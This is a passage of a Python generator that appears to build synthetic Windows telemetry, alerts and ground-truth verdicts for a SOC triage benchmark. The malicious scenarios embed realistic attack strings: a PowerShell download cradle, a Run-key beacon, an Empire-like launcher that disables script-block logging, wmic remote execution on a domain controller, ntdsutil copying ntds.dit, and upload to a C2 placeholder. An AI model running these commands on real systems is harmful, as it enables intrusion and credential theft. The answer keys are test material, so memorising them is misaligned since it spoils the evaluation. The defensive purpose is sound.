            "The second host is only found by pivoting on WS-FIN-07's IP (4624 IpAddress on other hosts) or on the SMB connection; a hunt limited to WS-FIN-07 is incomplete.",
            "The same 'Remote Service Installation' logic that raised demo-6 would match the 7045 on SRV-FS01 too: the rule alone does not separate them.",
        ],
    )
    return alert, truth


def scenario_encoded_stager(world: World) -> tuple[AlertSpec, Truth]:
    """2: explorer -> mshta (ClickFix-style) -> encoded PowerShell stager, Run-key persistence, 60 s beacon."""
    world.bucket = "encoded_stager"
    ws = world.hosts["WS-HR-02"]
    asmith = world.accounts["asmith"]
    shell = world.workdays[("WS-HR-02", 2)]["explorer"]
    t0 = datetime(2026, 11, 18, 15, 41, 3, tzinfo=UTC)
    mshta = world.spawn(
        shell, t0, r"C:\Windows\System32\mshta.exe", f'"C:\\Windows\\system32\\mshta.exe" http://{C2_S2}/x.hta'
    )
    world.connect(mshta, t0 + timedelta(seconds=1), C2_S2, 80)
    stager = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_S2}/a')"
    ps_cmd = f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w hidden -enc {ps_encode(stager)}'
    ps = world.spawn(mshta, t0 + timedelta(seconds=4), PS, ps_cmd)
    world.script_block(ps, t0 + timedelta(seconds=5), stager, suspicious=True)
    world.connect(ps, t0 + timedelta(seconds=6), C2_S2, 80)
    run_value = (
        f"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -nop -enc {ps_encode(stager)}"
    )
    beacon = (
        f"$u='https://{C2_S2}/api/v2/status';$h=@{{'X-Id'=$env:COMPUTERNAME+'|'+$env:USERNAME}};"
        "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'Updater' "
        f"-Value '{run_value}';"
        "[Net.ServicePointManager]::ServerCertificateValidationCallback={$true};"
        "while($true){try{$r=Invoke-WebRequest -UseBasicParsing -Uri $u -Headers $h;if($r.Content){IEX $r.Content}}catch{};Start-Sleep -s 60}"
    )
    world.script_block(ps, t0 + timedelta(seconds=7), beacon, suspicious=True)
    run_key = f"HKU\\{asmith.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"
    world.registry_set(ps, t0 + timedelta(seconds=8), run_key, run_value)
    beat = t0 + timedelta(seconds=9)
    for _ in range(95):
        world.connect(ps, beat, C2_S2, 443)
        beat += timedelta(seconds=60 + world.rng.uniform(-3, 3))
    discovery = world.spawn(
        ps,
        t0 + timedelta(minutes=14, seconds=12),
        r"C:\Windows\System32\whoami.exe",
        '"C:\\Windows\\system32\\whoami.exe" /groups',
    )
    alert = AlertSpec(
        id="demo-2-encoded-powershell",
        rule_name="Suspicious Encoded PowerShell Command Line",
        severity="high",
        description="PowerShell was started with a hidden window and a base64-encoded command (-enc).",
        techniques=["T1059.001"],
        tactics=["execution"],
        trigger=ps.event or {},
        host=ws.name,
        user=asmith.qualified,
        process=ps,
    )
    truth = Truth(
        alert_id=alert.id,
        scenario="encoded_stager",
        verdict="malicious",
        affected_hosts=["WS-HR-02"],
        affected_accounts=["CONTOSO\\asmith"],
        summary=(
            "asmith pasted a command into the Run dialog (explorer.exe -> mshta.exe with a remote .hta). mshta starts hidden "
            "encoded PowerShell that downloads and runs a stager, persists it in the user's Run key as 'Updater', and then "
            "beacons every ~60 s to one rare external IP."
        ),
        key_evidence=[
            evidence(
                "explorer.exe starts mshta.exe with a remote .hta",
                "WS-HR-02",
                EventID=1,
                Image=r"C:\Windows\System32\mshta.exe",
                ParentImage=r"C:\Windows\explorer.exe",
            ),
            evidence(
                "mshta.exe spawns encoded PowerShell",
                "WS-HR-02",
                EventID=1,
                Image=PS,
                ParentImage=r"C:\Windows\System32\mshta.exe",
                CommandLine=ps_cmd,
            ),
            evidence("script block with an IEX download cradle", "WS-HR-02", EventID=4104, ScriptBlockText=stager),
            evidence(
                "Run key persistence 'Updater' with an encoded PowerShell command",
                "WS-HR-02",
                EventID=13,
                TargetObject=run_key,
            ),
            evidence(
                "beaconing every ~60 s to a rare external IP",
                "WS-HR-02",
                EventID=3,
                Image=PS,
                DestinationIp=C2_S2,
                DestinationPort="443",
            ),
            evidence(
                "discovery from the stager",
                "WS-HR-02",
                EventID=1,
                Image=r"C:\Windows\System32\whoami.exe",
                ParentProcessGuid=ps.guid,
            ),
        ],
        prevalence=[
            prevalence(
                "the encoded PowerShell command line", {"EventID": 1, "CommandLine": ps_cmd}, max_hosts=1, max_count=1
            ),
            prevalence("the C2 address", {"DestinationIp": C2_S2}, hosts=["WS-HR-02"], min_count=90),
            prevalence("mshta.exe anywhere", {"EventID": 1, "Image": r"C:\Windows\System32\mshta.exe"}, max_count=1),
        ],
        notes=[
            "OneDrive sets a Run key at every logon on every workstation: a Run-key write alone is not proof; the value is."
        ],
    )
    assert discovery.event is not None
    return alert, truth


def scenario_wmi_dc(world: World) -> tuple[AlertSpec, Truth]:
    """3: Empire-like agent on WS-ENG-11 -> wmic /node:DC01 -> WmiPrvSE -> PowerShell -> ntdsutil IFM."""
    world.bucket = "wmi_dc"
    ws, dc = world.hosts["WS-ENG-11"], world.hosts["DC01"]
    mlee = world.accounts["mlee"]
    shell = world.workdays[("WS-ENG-11", 4)]["explorer"]
    edge = world.workdays[("WS-ENG-11", 4)]["browser"]
    t0 = datetime(2026, 11, 20, 20, 30, 41, tzinfo=UTC)
    world.file_create(edge, t0 - timedelta(seconds=40), r"C:\Users\mlee\Downloads\VPN-Client-Update.vbs")
    wscript = world.spawn(
        shell,
        t0,
        r"C:\Windows\System32\WScript.exe",
        '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\mlee\\Downloads\\VPN-Client-Update.vbs"',
    )
    launcher = (
        "If($PSVersionTable.PSVersion.Major -ge 3){$GPF=[ref].Assembly.GetType('System.Management.Automation.Utils')."
        "\"GetFie`ld\"('cachedGroupPolicySettings','N'+'onPublic,Static');If($GPF){$GPC=$GPF.GetValue($null);"
        "$GPC['ScriptB'+'lockLogging']['EnableScriptB'+'lockLogging']=0}};"
        "[System.Net.ServicePointManager]::Expect100Continue=0;$wc=New-Object System.Net.WebClient;"
        "$u='Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko';"
        f"$ser='https://{C2_S3}:443';$t='/login/process.php';$wc.Headers.Add('User-Agent',$u);"
        "$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;$wc.Proxy.Credentials=[System.Net.CredentialCache]::DefaultNetworkCredentials;"
        "$K=[System.Text.Encoding]::ASCII.GetBytes('9d1c7b0e5a3f4c2e8b6a0d9f1e2c3b4a');"
        "$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};"
        "$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}};"
        "$data=$wc.DownloadData($ser+$t);$iv=$data[0..3];$data=$data[4..$data.length];-join[Char[]](& $R $data ($IV+$K))|IEX"
    )
    agent = world.spawn(
        wscript,
        t0 + timedelta(seconds=2),
        PS,
        f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -noP -sta -w 1 -enc {ps_encode(launcher)}',
    )
    world.script_block(agent, t0 + timedelta(seconds=3), launcher, suspicious=True)
    beat = t0 + timedelta(seconds=4)
    while beat < t0 + timedelta(minutes=55):
        world.connect(agent, beat, C2_S3, 443)
        beat += timedelta(seconds=120 + world.rng.uniform(-20, 20))
    recon = world.spawn(
        agent,
        t0 + timedelta(minutes=6),
        r"C:\Windows\System32\net.exe",
        '"C:\\Windows\\system32\\net.exe" group "domain controllers" /domain',
    )
    assert recon.event is not None

    t1 = datetime(2026, 11, 20, 21, 9, 40, tzinfo=UTC)
    remote_script = (
        "[System.Net.ServicePointManager]::ServerCertificateValidationCallback={$true};$wc=New-Object System.Net.WebClient;"
        f"$wc.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko');"
        f"IEX $wc.DownloadString('https://{C2_S3}/admin/get.php')"
    )
    remote_cmd = f"powershell -nop -enc {ps_encode(remote_script)}"
    wmic_cmd = f'wmic /node:DC01 process call create "{remote_cmd}"'
    wmic = world.spawn(agent, t1, r"C:\Windows\System32\wbem\WMIC.exe", wmic_cmd)
    world.connect(wmic, t1 + timedelta(milliseconds=300), dc.ip, 135, dc.fqdn)
    world.accept(dc.procs["rpcss"], t1 + timedelta(milliseconds=320), ws, 135)
    net_logon = world.logon(dc, t1 + timedelta(milliseconds=600), mlee, "3", source=ws)
    world.connect(wmic, t1 + timedelta(milliseconds=700), dc.ip, 49_668, dc.fqdn)
    wmiprvse = world.spawn(
        dc.procs["dcomlaunch"],
        t1 + timedelta(milliseconds=900),
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        logon=dc.procs["rpcss"].logon,
    )
    dc_ps = world.spawn(
        wmiprvse,
        t1 + timedelta(seconds=1, milliseconds=300),
        PS,
        remote_cmd,
        logon=net_logon,
        integrity="High",
        cwd=SYSTEM32_DIR,
    )
    world.script_block(dc_ps, t1 + timedelta(seconds=2), remote_script, suspicious=True)
    for index in range(6):
        world.connect(dc_ps, t1 + timedelta(seconds=3 + 40 * index + world.rng.randint(0, 5)), C2_S3, 443)
    ifm = r'"C:\Windows\system32\ntdsutil.exe" "ac i ntds" ifm "create full C:\Windows\Temp\x" q q'
    ntdsutil = world.spawn(dc_ps, t1 + timedelta(minutes=4, seconds=15), r"C:\Windows\System32\ntdsutil.exe", ifm)
    for offset, path in enumerate(
        [
            r"C:\Windows\Temp\x\Active Directory\ntds.dit",
            r"C:\Windows\Temp\x\registry\SYSTEM",
            r"C:\Windows\Temp\x\registry\SECURITY",
        ]
    ):
        world.file_create(ntdsutil, t1 + timedelta(minutes=4, seconds=21 + 6 * offset), path)
    exfil = (
        "Compress-Archive -Path C:\\Windows\\Temp\\x -DestinationPath C:\\Windows\\Temp\\x.zip;"
        f"(New-Object Net.WebClient).UploadFile('https://{C2_S3}/upload','C:\\Windows\\Temp\\x.zip')"
    )
    world.script_block(dc_ps, t1 + timedelta(minutes=5, seconds=10), exfil, suspicious=True)
    world.file_create(dc_ps, t1 + timedelta(minutes=5, seconds=14), r"C:\Windows\Temp\x.zip")
    world.connect(dc_ps, t1 + timedelta(minutes=5, seconds=20), C2_S3, 443)
    alert = AlertSpec(
        id="demo-3-wmi-powershell-dc",
        rule_name="WMI Spawning PowerShell",
        severity="high",
        description="The WMI provider host (WmiPrvSE.exe) started PowerShell, typical of remote execution over WMI.",
        techniques=["T1047"],
        tactics=["execution"],
        trigger=dc_ps.event or {},
        host=dc.name,
        user=mlee.qualified,
        process=dc_ps,
    )
    truth = Truth(
        alert_id=alert.id,
        scenario="wmi_dc",
        verdict="malicious",
        affected_hosts=["DC01", "WS-ENG-11"],
        affected_accounts=["CONTOSO\\mlee"],
        summary=(
            "An Empire-like agent on WS-ENG-11 (launched from a downloaded .vbs, beaconing to a rare IP) runs "
            "wmic /node:DC01 process call create as mlee, a regular engineer who never administers servers. On DC01 "
            "mlee's network logon gets admin privileges (4672; a stale nested group membership gives him that on every DC01 "
            "logon all week, unused until now), WmiPrvSE.exe starts "
            "encoded PowerShell in that logon session, which calls the same C2 and copies the AD database with ntdsutil IFM."
        ),
        key_evidence=[
            evidence(
                "WmiPrvSE.exe spawns encoded PowerShell as mlee",
                "DC01",
                EventID=1,
                Image=PS,
                ParentImage=r"C:\Windows\System32\wbem\WmiPrvSE.exe",
                User="CONTOSO\\mlee",
            ),
            evidence(
                "network logon by mlee from WS-ENG-11's IP right before",
                "DC01",
                EventID=4624,
                LogonType="3",
                TargetUserName="mlee",
                IpAddress=ws.ip,
                TargetLogonId=hex(net_logon.logon_id),
            ),
            evidence(
                "mlee's logon receives admin privileges",
                "DC01",
                EventID=4672,
                SubjectUserName="mlee",
                SubjectLogonId=hex(net_logon.logon_id),
            ),
            evidence(
                "ntdsutil IFM copy of the AD database",
                "DC01",
                EventID=1,
                Image=r"C:\Windows\System32\ntdsutil.exe",
                CommandLine=ifm,
            ),
            evidence(
                "ntds.dit written to a temp folder",
                "DC01",
                EventID=11,
                TargetFilename=r"C:\Windows\Temp\x\Active Directory\ntds.dit",
            ),
            evidence(
                "the DC's PowerShell talks to a rare external IP", "DC01", EventID=3, Image=PS, DestinationIp=C2_S3
            ),
            evidence(
                "wmic /node:DC01 on the workstation",
                "WS-ENG-11",
                EventID=1,
                Image=r"C:\Windows\System32\wbem\WMIC.exe",
                CommandLine=wmic_cmd,
            ),
            evidence(
                "Empire-like launcher from a .vbs",
                "WS-ENG-11",
                EventID=1,
                Image=PS,
                ParentImage=r"C:\Windows\System32\WScript.exe",
            ),
            evidence("the workstation beacons to the same IP", "WS-ENG-11", EventID=3, Image=PS, DestinationIp=C2_S3),
        ],
        prevalence=[
            prevalence("the C2 address", {"DestinationIp": C2_S3}, hosts=["WS-ENG-11", "DC01"]),
            prevalence(
                "processes run as mlee on DC01 (only the attack's)",
                {"EventID": 1, "User": "CONTOSO\\mlee", "Hostname": dc.fqdn},
                max_count=2,
            ),
            prevalence("wmic.exe anywhere", {"EventID": 1, "Image": r"C:\Windows\System32\wbem\WMIC.exe"}, max_count=1),
        ],
        notes=[
            "DC01 is a domain controller: the response policy must never auto-isolate it; containment needs a human."
        ],
    )
    return alert, truth


def iis_worker_cmd() -> str:
    return (
        r'c:\windows\system32\inetsrv\w3wp.exe -ap "ContosoPortal" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipmb3f2c1e4-5d7a-4f0e-9c61-2a8e4b7d1f03 '
        r'-h "C:\inetpub\temp\apppools\ContosoPortal\ContosoPortal.config" -w "" -m 0 -t 20 -ta 0'
    )


def scenario_procdump(world: World) -> tuple[AlertSpec, Truth]:
    """4: the IIS worker keeps crashing; the app admin dumps it with signed procdump, as on earlier days."""
    world.bucket = "procdump_w3wp"
    app = world.hosts["SRV-APP02"]
    tnguyen = world.accounts["adm_tnguyen"]
    was = app.procs["was"]
    worker_logon = Logon(app, APPPOOL, 0x8A2F1, world.sysmon_logon_guid(app, app.boot, 0x8A2F1), 0, "5")
    current = world.existing(
        app,
        START - timedelta(hours=3),
        r"C:\Windows\System32\inetsrv\w3wp.exe",
        iis_worker_cmd(),
        was,
        worker_logon,
        "System",
    )
    crashes_per_day = {0: 2, 1: 3, 2: 2, 3: 4, 4: 3, 5: 1, 6: 1}
    runs = list(zip(PROCDUMP_DAYS, (16.3, 15.1, 18.7), strict=True))
    crash_times = sorted(
        [
            day_start(day) + timedelta(hours=world.rng.uniform(1, 23))
            for day, crashes in crashes_per_day.items()
            for _ in range(crashes)
        ]
        + [
            day_start(day) + timedelta(hours=hour - lead) for day, hour in runs for lead in (1.4, 0.5)
        ]  # what prompts each dump
    )
    timeline: list[tuple[datetime, Proc]] = [(START, current)]
    for at in crash_times:
        if at - timeline[-1][0] < timedelta(minutes=10):
            continue  # the new worker has not served a request yet: it cannot crash again so soon
        fault = world.spawn(
            current,
            at,
            r"C:\Windows\System32\WerFault.exe",
            f"C:\\Windows\\system32\\WerFault.exe -u -p {current.pid} -s {world.rng.randrange(800, 3000, 4)}",
            logon=current.logon,
        )
        assert fault.event is not None
        world.app_pool_failure(app, at + timedelta(seconds=4), current)
        current = world.spawn(
            was,
            at + timedelta(seconds=9),
            r"C:\Windows\System32\inetsrv\w3wp.exe",
            iis_worker_cmd(),
            logon=worker_logon,
            integrity="System",
        )
        timeline.append((at + timedelta(seconds=9), current))

    def worker_at(moment: datetime) -> Proc:
        return [proc for start, proc in timeline if start <= moment][-1]

    dump_cmd = r"C:\Tools\Sysinternals\procdump64.exe -accepteula -ma w3wp.exe C:\Dumps\w3wp_crash.dmp"
    procdumps: list[Proc] = []
    for index, (day, hour) in enumerate(runs):
        _, shell = admin_session(
            world,
            "adm_tnguyen",
            day,
            "SRV-APP02",
            [(r"C:\Windows\System32\inetsrv\InetMgr.exe", r'"C:\Windows\system32\inetsrv\InetMgr.exe"')],
            hour,
        )
        at = started_at(shell) + timedelta(minutes=9, seconds=world.rng.randint(0, 50))
        console = world.spawn(shell, at, CMD, '"C:\\Windows\\system32\\cmd.exe"', cwd="C:\\Tools\\Sysinternals\\")
        dump = world.spawn(console, at + timedelta(seconds=35), r"C:\Tools\Sysinternals\procdump64.exe", dump_cmd)
        if index == 0:
            world.registry_set(
                dump,
                at + timedelta(seconds=35, milliseconds=200),
                f"HKU\\{tnguyen.sid}\\Software\\Sysinternals\\ProcDump\\EulaAccepted",
                "DWORD (0x00000001)",
            )
        world.access(dump, worker_at(at), at + timedelta(seconds=35, milliseconds=600), "0x1fffff", PROCDUMP_CALLTRACE)
        world.file_create(dump, at + timedelta(seconds=36), r"C:\Dumps\w3wp_crash.dmp")
        procdumps.append(dump)
    last = procdumps[-1]
    alert = AlertSpec(
        id="demo-4-procdump",
        rule_name="Procdump Usage",
        severity="high",
        description="Process Dump via Procdump: procdump was run with -ma (full memory dump) on this host; "
        "procdump is also used to dump LSASS.",
        techniques=["T1003.001"],
        tactics=["credential-access"],
        trigger=last.event or {},
        host=app.name,
        user=tnguyen.qualified,
        process=last,
        files=[r"C:\Dumps\w3wp_crash.dmp"],
    )
    truth = Truth(
        alert_id=alert.id,
        scenario="procdump_w3wp",
        verdict="benign",
        affected_hosts=[],
        affected_accounts=[],
        summary=(
            "The IIS application pool ContosoPortal crashes repeatedly (WerFault, WAS 5011, w3wp restarts). The application "
            "admin adm_tnguyen, logged on over RDP from JUMP-01 as usual, runs the signed Sysinternals procdump64.exe against "
            "w3wp.exe (not lsass) to capture a crash dump, as he did on the two previous days. No network traffic, no rare "
            "destinations, no follow-on activity."
        ),
        key_evidence=[
            evidence(
                "procdump targets w3wp.exe, not lsass",
                "SRV-APP02",
                EventID=10,
                SourceImage=r"C:\Tools\Sysinternals\procdump64.exe",
                TargetImage=r"C:\Windows\System32\inetsrv\w3wp.exe",
            ),
            evidence(
                "signed Sysinternals binary",
                "SRV-APP02",
                EventID=1,
                Image=r"C:\Tools\Sysinternals\procdump64.exe",
                Company="Sysinternals - www.sysinternals.com",
            ),
            evidence(
                "admin RDP logon from the jump host",
                "SRV-APP02",
                EventID=4624,
                LogonType="10",
                TargetUserName="adm_tnguyen",
                IpAddress=world.hosts["JUMP-01"].ip,
            ),
            evidence("the application pool crashes (WAS)", "SRV-APP02", EventID=5011, AppPoolID="ContosoPortal"),
            evidence(
                "crash reporting on the worker",
                "SRV-APP02",
                EventID=1,
                Image=r"C:\Windows\System32\WerFault.exe",
                ParentImage=r"C:\Windows\System32\inetsrv\w3wp.exe",
            ),
            evidence("the dump goes to C:\\Dumps", "SRV-APP02", EventID=11, TargetFilename=r"C:\Dumps\w3wp_crash.dmp"),
        ],
        prevalence=[
            prevalence(
                "the same procdump command line on earlier days",
                {"EventID": 1, "CommandLine": dump_cmd},
                hosts=["SRV-APP02"],
                min_count=3,
                min_days=3,
            ),
            prevalence(
                "lsass is opened by another process only on WS-FIN-07",
                {"EventID": 10, "TargetImage": r"C:\Windows\System32\lsass.exe"},
                hosts=["WS-FIN-07"],
            ),
        ],
        notes=[
            "The rule is tagged T1003.001 and severity high; the target process, the signer, the admin path and the history decide.",
            "The demo inventory (examples/assets.yaml) sanctions C:\\Tools\\Sysinternals\\* for adm_tnguyen, the application admin.",
        ],
    )
    return alert, truth


MONITORING_SCRIPT = (
    "# ContosoMonitor inventory collector 4.2 - (c) Contoso Ltd.\r\n"
    "$uri = 'https://SRV-APP02.contoso.local:8443/ingest/inventory'\r\n"
    "$inv = [ordered]@{ host = $env:COMPUTERNAME\r\n"
    "  os = Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version\r\n"
    "  disks = Get-CimInstance Win32_LogicalDisk -Filter 'DriveType=3' | Select-Object DeviceID, FreeSpace\r\n"
    "  admins = Get-LocalGroupMember -Group 'Administrators' | Select-Object Name }\r\n"
    "Invoke-RestMethod -Uri $uri -Method Post -UseDefaultCredentials -Body ($inv | ConvertTo-Json)\r\n"
)


def scenario_monitoring(world: World) -> tuple[AlertSpec, Truth]:
    """5: the monitoring agent's PowerShell collection script, every 8 hours on every host."""
    world.bucket = "monitoring_agent"
    collector = world.hosts["SRV-APP02"]
    script_path = r"C:\Program Files\ContosoMonitor\scripts\collect_inventory.ps1"
    alert_proc: Proc | None = None
    for host in world.hosts.values():
        offset = timedelta(minutes=world.rng.randint(1, 50))
        bucket = "ecs:monitoring_agent" if host.name in MONITOR_ECS_HOSTS else "monitoring_agent"
        for slot in range(DAYS * RUNS_PER_DAY):
            world.bucket = bucket
            at = (
                START
                + timedelta(hours=24 // RUNS_PER_DAY * slot)
                + offset
                + timedelta(seconds=world.rng.randint(0, 59))
            )
            agent = host.procs["cmagent"]
            ps = world.spawn(agent, at, PS, MONITOR_CMD, cwd="C:\\Program Files\\ContosoMonitor\\")
            world.script_block(ps, at + timedelta(seconds=1), MONITORING_SCRIPT, path=script_path)
            world.group_enumerated(ps, at + timedelta(seconds=3))
            world.connect(ps, at + timedelta(seconds=5), collector.ip, 8443, collector.fqdn)
            if host.name == "WS-ENG-04" and slot == MONITOR_ALERT_DAY * RUNS_PER_DAY + 1:
                alert_proc = ps
    assert alert_proc is not None
    alert = AlertSpec(
        id="demo-5-powershell-bypass",
        rule_name="Suspicious PowerShell Execution Policy Bypass",
        severity="medium",
        description="PowerShell was started non-interactively with -ExecutionPolicy Bypass to run a script file.",
        techniques=["T1059.001"],
        tactics=["execution"],
        trigger=alert_proc.event or {},
        host="WS-ENG-04",
        user=SYSTEM_ACCOUNT.qualified,
        process=alert_proc,
    )
    truth = Truth(
        alert_id=alert.id,
        scenario="monitoring_agent",
        verdict="benign",
        affected_hosts=[],
        affected_accounts=[],
        summary=(
            "The sanctioned monitoring agent (C:\\Program Files\\ContosoMonitor\\cmagent.exe, a service under services.exe "
            "running as SYSTEM) runs its inventory script with -ExecutionPolicy Bypass every 8 hours on every host; the same "
            "command line appears on all hosts on all 7 days and only talks to the internal collector SRV-APP02:8443. "
            f"The alert comes on day {MONITOR_ALERT_DAY + 1}, after {MONITOR_ALERT_DAY} days of the same runs on all "
            f"{len(world.hosts)} hosts."
        ),
        key_evidence=[
            evidence(
                "parent is the known monitoring agent service",
                "WS-ENG-04",
                EventID=1,
                Image=PS,
                ParentImage=r"C:\Program Files\ContosoMonitor\cmagent.exe",
                CommandLine=MONITOR_CMD,
            ),
            evidence("the script is the agent's own inventory collector", "WS-ENG-04", EventID=4104, Path=script_path),
            evidence(
                "only the internal collector is contacted",
                "WS-ENG-04",
                EventID=3,
                Image=PS,
                DestinationIp=collector.ip,
                DestinationPort="8443",
            ),
        ],
        prevalence=[
            prevalence(
                "the same command line everywhere, every day",
                {"EventID": 1, "CommandLine": MONITOR_CMD},
                min_hosts=20,
                min_days=7,
            )
        ],
        notes=[
            f"Three hosts' monitoring events ({', '.join(MONITOR_ECS_HOSTS)}) are in events/ecs/ as ECS-nested JSON; prevalence holds with or without them."
        ],
    )
    world.bucket = "monitoring_agent"
    return alert, truth


def msi_install_cmd(package: str) -> str:
    return f'"C:\\Windows\\System32\\msiexec.exe" /i \\\\SRV-DEPLOY01\\packages\\{package} /qn'


def deployment_window(
    world: World, start: datetime, package: str, installed: str
) -> dict[str, tuple[dict[str, Any], Proc]]:
    """One deployment window: cdeploy on SRV-DEPLOY01 (batch logon as svc_deploy) pushes the package to every
    target through the ContosoDeployRunner service. Returns each target's 7045 event and runner process."""
    deploy = world.hosts["SRV-DEPLOY01"]
    svc_deploy = world.accounts["svc_deploy"]
    batch = world.logon(deploy, start, svc_deploy, "4")
    console = world.spawn(
        deploy.procs["schedule"],
        start + timedelta(seconds=1),
        r"C:\Program Files\ContosoDeploy\cdeploy.exe",
        f'"C:\\Program Files\\ContosoDeploy\\cdeploy.exe" push --package {package} --collection "Workstations-Standard"',
        logon=batch,
        integrity="High",
        cwd="C:\\Program Files\\ContosoDeploy\\",
    )
    installs: dict[str, tuple[dict[str, Any], Proc]] = {}
    at = start + timedelta(seconds=20)
    for name in DEPLOY_TARGETS:
        target = world.hosts[name]
        world.connect(console, at, target.ip, 445, target.fqdn)
        world.accept(target.procs["system"], at + timedelta(milliseconds=200), deploy, 445)
        logon = world.logon(target, at + timedelta(milliseconds=500), svc_deploy, "3", source=deploy)
        world.file_create(target.procs["system"], at + timedelta(seconds=1), DEPLOY_RUNNER)
        event = world.service_install(target, at + timedelta(seconds=2), logon, "ContosoDeployRunner", DEPLOY_RUNNER)
        runner = world.spawn(
            target.procs["services"],
            at + timedelta(seconds=3),
            DEPLOY_RUNNER,
            DEPLOY_RUNNER,
            logon=world.system_logon(target),
            integrity="System",
            cwd=SYSTEM32_DIR,
        )
        msi = world.spawn(runner, at + timedelta(seconds=5), r"C:\Windows\System32\msiexec.exe", msi_install_cmd(package))
        world.connect(msi, at + timedelta(seconds=6), deploy.ip, 445, deploy.fqdn)
        world.file_create(msi, at + timedelta(seconds=40), installed)
        world.connect(runner, at + timedelta(seconds=55), deploy.ip, 8530, deploy.fqdn)
        installs[name] = (event, runner)
        at += timedelta(seconds=world.rng.randint(45, 90))
    return installs


def scenario_deployment(world: World) -> tuple[AlertSpec, Truth]:
    """6: the deployment tool's second window of the week: ContosoDeployRunner pushed from SRV-DEPLOY01 by
    svc_deploy, as in the first window five days earlier."""
    world.bucket = "deploy_service"
    deploy = world.hosts["SRV-DEPLOY01"]
    svc_deploy = world.accounts["svc_deploy"]
    windows = [deployment_window(world, *window) for window in DEPLOY_WINDOWS]
    trigger, runner_proc = windows[-1]["WS-FIN-03"]
    first, package = DEPLOY_WINDOWS[0][0], DEPLOY_WINDOWS[-1][1]
    gap = (DEPLOY_WINDOWS[-1][0] - first).days
    msi_cmd = msi_install_cmd(package)
    alert = AlertSpec(
        id="demo-6-remote-service",
        rule_name="Remote Service Installation (PsExec-like)",
        severity="medium",
        description="A service was installed by an account logged on over the network, as PsExec and similar tools do.",
        techniques=["T1021.002", "T1569.002"],
        tactics=["lateral-movement", "execution"],
        trigger=trigger,
        host="WS-FIN-03",
        user=svc_deploy.qualified,
        process=runner_proc,
        ips=[deploy.ip],
        executable=DEPLOY_RUNNER,
    )
    truth = Truth(
        alert_id=alert.id,
        scenario="deploy_service",
        verdict="benign",
        affected_hosts=[],
        affected_accounts=[],
        summary=(
            "A deployment window: svc_deploy logs on from SRV-DEPLOY01 (Kerberos), installs the sanctioned "
            "ContosoDeployRunner service (C:\\Windows\\ContosoDeployRunner\\runner.exe, signed by Contoso Ltd., same hash "
            "everywhere), which installs 7-Zip from the deployment share with msiexec; the identical install happens on "
            f"{len(DEPLOY_TARGETS)} workstations within the same hour. The same runner service was installed the same "
            f"way on the same {len(DEPLOY_TARGETS)} workstations in the previous window, {first:%m-%d} (another package), "
            f"{gap} days before the alert: established behaviour, not a new binary spreading."
        ),
        key_evidence=[
            evidence(
                "network logon by svc_deploy from SRV-DEPLOY01",
                "WS-FIN-03",
                EventID=4624,
                LogonType="3",
                TargetUserName="svc_deploy",
                IpAddress=deploy.ip,
            ),
            evidence(
                "the sanctioned runner service is installed",
                "WS-FIN-03",
                EventID=7045,
                ServiceName="ContosoDeployRunner",
                ImagePath=DEPLOY_RUNNER,
            ),
            evidence(
                "the runner installs a package from the deployment share",
                "WS-FIN-03",
                EventID=1,
                Image=r"C:\Windows\System32\msiexec.exe",
                ParentImage=DEPLOY_RUNNER,
                CommandLine=msi_cmd,
            ),
            evidence(
                "the deployment console drives the push",
                "SRV-DEPLOY01",
                EventID=1,
                Image=r"C:\Program Files\ContosoDeploy\cdeploy.exe",
                User="CONTOSO\\svc_deploy",
            ),
        ],
        prevalence=[
            prevalence(
                f"the same service install on the same hosts in both windows, {gap} days apart",
                {"EventID": 7045, "ServiceName": "ContosoDeployRunner", "ImagePath": DEPLOY_RUNNER},
                hosts=DEPLOY_TARGETS,
                min_count=len(DEPLOY_WINDOWS) * len(DEPLOY_TARGETS),
                max_count=len(DEPLOY_WINDOWS) * len(DEPLOY_TARGETS),
                min_days=len(DEPLOY_WINDOWS),
            ),
            prevalence(
                "logons by svc_deploy come only from SRV-DEPLOY01",
                {"EventID": 4624, "TargetUserName": "svc_deploy", "LogonType": "3"},
                field_values={"IpAddress": [deploy.ip]},
            ),
        ],
    )
    return alert, truth


# --------------------------------------------------------------------------------------------
# Output: record numbers, ECS export, alerts, ground truth
# --------------------------------------------------------------------------------------------

ECS_CATEGORIES = {
    (SYSMON, 1): (["process"], ["start"]),
    (SECURITY, 4688): (["process"], ["start"]),
    (SYSMON, 3): (["network"], ["connection", "start"]),
    (POWERSHELL, 4104): (["process"], ["info"]),
    (SECURITY, 4799): (["iam"], ["group", "info"]),
    (SYSTEM, 7045): (["configuration"], ["change"]),
}
ECS_MAPPED = {  # raw fields whose value an ECS field above already holds; the export leaves them out
    (SYSMON, 1): {
        "ProcessId",
        "ProcessGuid",
        "Image",
        "CommandLine",
        "CurrentDirectory",
        "Hashes",
        "Company",
        "Description",
        "OriginalFileName",
        "Product",
        "ParentProcessId",
        "ParentProcessGuid",
        "ParentImage",
        "ParentCommandLine",
        "User",
    },
    (SECURITY, 4688): {
        "NewProcessId",
        "NewProcessName",
        "CommandLine",
        "ProcessId",
        "ParentProcessName",
        "SubjectUserName",
        "SubjectDomainName",
        "SubjectUserSid",
    },
    (SYSMON, 3): {
        "ProcessId",
        "ProcessGuid",
        "Image",
        "SourceIp",
        "SourcePort",
        "SourceHostname",
        "DestinationIp",
        "DestinationPort",
